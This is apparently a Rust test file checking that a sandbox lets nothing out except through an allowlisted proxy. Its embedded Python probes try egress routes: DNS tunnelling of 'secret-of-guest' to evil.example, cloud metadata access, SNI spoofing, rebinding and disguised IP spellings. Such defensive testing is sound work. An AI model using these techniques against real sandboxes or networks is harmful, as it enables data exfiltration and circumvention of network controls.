//! Ways out that must not be: each is first shown to be one where there is no border, or for what is allowed.

use std::collections::BTreeSet;
use std::process::Command;

use crate::bed::{Bed, said, stdout};
use crate::internet::{METADATA, Packet, RESOLVER, STRANGER, WEB, WEB6};

/// Every way that needs no proxy. Prints what worked.
const PROBE: &str = r#"
import socket, struct
def tried(name, work):
    try:
        work()
        print("worked", name)
    except Exception as error:
        print("failed", name, type(error).__name__)
def tcp(family, address, port):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((address, port))
def udp(family, address, port, data, answer=False):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(data, (address, port))
        if answer:
            s.recv(512)
def icmp():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack("!BBHHH", 8, 0, 0xf7ff, 0, 0), ("WEB", 0))
question = b"\x01\x02\x01\0\0\1\0\0\0\0\0\0\x0fsecret-of-guest\x04evil\x07example\0\0\1\0\1"
tried("tcp", lambda: tcp(socket.AF_INET, "WEB", 443))
tried("tcp6", lambda: tcp(socket.AF_INET6, "WEB6", 443))
tried("metadata", lambda: tcp(socket.AF_INET, "METADATA", 80))
tried("dns", lambda: udp(socket.AF_INET, "STRANGER", 53, question, True))
tried("quic", lambda: udp(socket.AF_INET, "WEB", 443, b"\xc0" * 1200))
tried("udp6", lambda: udp(socket.AF_INET6, "WEB6", 443, b"x"))
tried("icmp", icmp)
"#;

/// Those that can be tried here.
fn backends(test: &str) -> Vec<&'static str> {
    let data = tempfile::tempdir().unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    match runtime.block_on(exuvia::sandbox::backend::docker::Docker::open(data.path(), None)) {
        Ok(_) => vec!["oci", "docker"],
        Err(error) => {
            crate::support::skip(&format!("{test}, docker"), &error);
            vec!["oci"]
        }
    }
}

fn probe() -> String {
    [
        ("WEB6", WEB6),
        ("WEB", WEB),
        ("METADATA", METADATA),
        ("STRANGER", STRANGER),
    ]
    .into_iter()
    .fold(PROBE.to_owned(), |text, (name, address)| {
        text.replace(&format!("\"{name}\""), &format!("\"{address}\""))
    })
}

/// T19, T20: no route leads out, whatever is tried.
#[test]
fn nothing_leaves_but_through_the_doors() {
    let test = "nothing_leaves_but_through_the_doors";
    let Some(bed) = Bed::new(test) else { return };
    let to = |protocol: u8, address: &str, port: u16| -> Packet { (protocol, address.parse().unwrap(), port) };
    let all = BTreeSet::from([
        to(6, WEB, 443),
        to(6, WEB6, 443),
        to(6, METADATA, 80),
        to(17, STRANGER, 53),
        to(17, WEB, 443),
        to(17, WEB6, 443),
        to(1, WEB, 0),
    ]);
    // Where there is no border each of them works, and is seen.
    let free = Command::new("python3").args(["-c", &probe()]).output().unwrap();
    assert!(
        !stdout(&free).contains("failed") && stdout(&free).lines().count() == 7,
        "{}",
        said(&free)
    );
    let arrived = bed.internet.packets();
    assert!(all.is_subset(&arrived), "{arrived:?}");
    bed.internet.questions();

    let script = format!("cat > /tmp/probe.py <<'END'\n{}\nEND\npython3 /tmp/probe.py", probe());
    for backend in backends(test) {
        let held = bed.shell_on(backend, &script);
        assert!(
            !stdout(&held).contains("worked") && stdout(&held).lines().count() == 7,
            "{}",
            said(&held)
        );
        assert_eq!(bed.internet.packets(), BTreeSet::new(), "not one packet");
        assert_eq!(bed.internet.questions(), []);

        // And the border is there: such a sandbox reaches what it may, and that alone is seen outside.
        let open = bed.shell_on(backend, "curl -sS https://api.example.com/x && cat /etc/resolv.conf");
        assert!(stdout(&open).starts_with("GET /x HTTP/1.1"), "{}", said(&open));
        assert!(stdout(&open).ends_with("nameserver 127.0.0.1\n"), "{}", said(&open));
        let arrived = bed.internet.packets();
        let wanted = BTreeSet::from([to(17, RESOLVER, 53), to(6, WEB, 443), to(6, WEB6, 443)]);
        assert!(!arrived.is_empty() && arrived.is_subset(&wanted), "{arrived:?}");
        bed.internet.questions();
    }
}

/// T20: what a program says to the doors. The first line shows that the way as such works.
#[test]
fn the_doors_let_nothing_else_through() {
    let Some(bed) = Bed::new("the_doors_let_nothing_else_through") else {
        return;
    };
    // target, name in the TLS hello; what is on the record.
    let cases: [(&str, &str, (&str, &str)); 16] = [
        ("api.example.com:443", "api.example.com", ("allowed", "api")),
        ("evil.example:443", "evil.example", ("denied", "builtin:default-deny")),
        ("example.com:443", "example.com", ("denied", "builtin:default-deny")),
        (
            "x.api.example.com:443",
            "x.api.example.com",
            ("denied", "builtin:default-deny"),
        ),
        (
            "api.example.com:80",
            "api.example.com",
            ("denied", "builtin:default-deny"),
        ),
        // SNI spoofing, and no SNI.
        (
            "other.example.com:443",
            "api.example.com",
            ("denied", "builtin:same-name"),
        ),
        ("other.example.com:443", "", ("denied", "builtin:hidden-name")),
        // Rebinding to the host's loopback, metadata by name and in IPv6's clothes, the host itself.
        (
            "rebound.example.com:443",
            "rebound.example.com",
            ("denied", "builtin:off-limits"),
        ),
        (
            "metadata.example.com:443",
            "metadata.example.com",
            ("denied", "builtin:closed-address"),
        ),
        (
            "mapped.example.com:443",
            "mapped.example.com",
            ("denied", "builtin:closed-address"),
        ),
        (
            "host.example.com:443",
            "host.example.com",
            ("denied", "builtin:off-limits"),
        ),
        // Addresses in every spelling.
        ("93.184.216.34:443", "", ("denied", "builtin:default-deny")),
        ("[2606:2800:220:1::34]:443", "", ("denied", "builtin:default-deny")),
        ("1572395042:443", "", ("denied", "builtin:host-form")),
        ("0x5db8d822:443", "", ("denied", "builtin:host-form")),
        ("169.254.169.254:80", "", ("denied", "builtin:default-deny")),
    ];
    let script = r#"
import socket, ssl, sys
for line in sys.stdin:
    target, _, name = line.rstrip("\n").partition(" ")
    with socket.create_connection(("127.0.0.1", 3128), 10) as s:
        s.settimeout(10)
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        status = s.recv(4096).split(b" ")[1].decode()
        if status == "200":
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            try:
                with context.wrap_socket(s, server_hostname=name or None) as inside:
                    inside.sendall(b"GET /x HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
                    status += " " + inside.recv(100).split(b"\r")[0].decode()
            except OSError as error:
                status += " cut"
        print(status)
"#;
    let lines: String = cases
        .iter()
        .map(|(target, name, _)| format!("{target} {name}\n"))
        .collect();
    let ran = bed.shell(&format!(
        "cat > /tmp/p.py <<'END'\n{script}\nEND\npython3 /tmp/p.py <<'END'\n{lines}END"
    ));
    let told: Vec<String> = stdout(&ran).lines().map(str::to_owned).collect();
    assert_eq!(told.len(), cases.len(), "{}", said(&ran));
    assert_eq!(told[0], "200 HTTP/1.1 200 OK", "{}", said(&ran));
    for (told, (target, name, _)) in told.iter().zip(&cases).skip(1) {
        assert!(told == "403" || told == "200 cut", "{target} {name}: {told}");
    }
    let wanted: Vec<(String, String)> = cases
        .map(|(_, _, (outcome, rule))| (outcome.to_owned(), rule.to_owned()))
        .to_vec();
    let verdicts = bed.verdicts().into_iter().map(|(outcome, rule, _)| (outcome, rule));
    assert_eq!(verdicts.collect::<Vec<_>>(), wanted, "{}", said(&ran));
    // Nothing but what was allowed has arrived, and no name but allowed ones was looked up.
    assert_eq!(bed.internet.requests().len(), 1);
    for (server, name) in bed.internet.questions() {
        assert!(
            server == RESOLVER && name.ends_with(".example.com") && !name.contains("evil") && !name.starts_with("x."),
            "{name}"
        );
    }
}

/// T19: names carry nothing out: the name server inside answers for what is allowed, from what it has.
#[test]
fn names_are_no_tunnel() {
    let Some(bed) = Bed::new("names_are_no_tunnel") else {
        return;
    };
    let script = r#"
import socket, struct
def ask(name, kind, stream=False):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    message = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    if stream:
        with socket.create_connection(("127.0.0.1", 53), 5) as s:
            s.sendall(struct.pack("!H", len(message)) + message)
            got = s.recv(600)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.sendto(message, ("127.0.0.1", 53))
            got = s.recv(600)
    code, answers = got[3] & 15, struct.unpack("!H", got[6:8])[0]
    address = ".".join(str(b) for b in got[-4:]) if answers else "-"
    print(name, kind, code, answers, address)
ask("api.example.com", 1)
ask("api.example.com", 1, True)
ask("api.example.com", 28)
ask("api.example.com", 16)
ask("secret-of-guest.evil.example", 1)
ask("secret-of-guest.evil.example", 16)
ask("secret-of-guest.api.example.com", 1, True)
"#;
    let ran = bed.shell(&format!("cat > /tmp/p.py <<'END'\n{script}\nEND\npython3 /tmp/p.py"));
    assert_eq!(
        stdout(&ran).lines().collect::<Vec<_>>(),
        [
            "api.example.com 1 0 1 198.18.0.1",
            "api.example.com 1 0 1 198.18.0.1",
            "api.example.com 28 0 0 -",
            "api.example.com 16 5 0 -",
            "secret-of-guest.evil.example 1 3 0 -",
            "secret-of-guest.evil.example 16 5 0 -",
            "secret-of-guest.api.example.com 1 3 0 -",
        ],
        "{}",
        said(&ran)
    );
    assert_eq!(bed.internet.questions(), [], "nobody outside was asked");
    assert_eq!(bed.internet.packets(), BTreeSet::new());
    assert_eq!(bed.decisions().len(), 7);
}
